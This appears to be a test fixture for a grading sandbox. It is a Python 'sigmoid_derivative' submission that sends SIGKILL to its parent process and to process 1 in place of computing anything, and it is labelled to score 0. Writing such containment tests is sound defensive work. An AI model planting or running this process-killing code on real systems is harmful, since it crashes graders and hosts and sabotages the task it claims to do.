"""Kills the process that started it, and process 1.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own processes
"""

# %% sigmoid_derivative
import os
import signal


def sigmoid_derivative(x):
    for pid in (os.getppid(), 1):
        try:
            if pid:
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return x
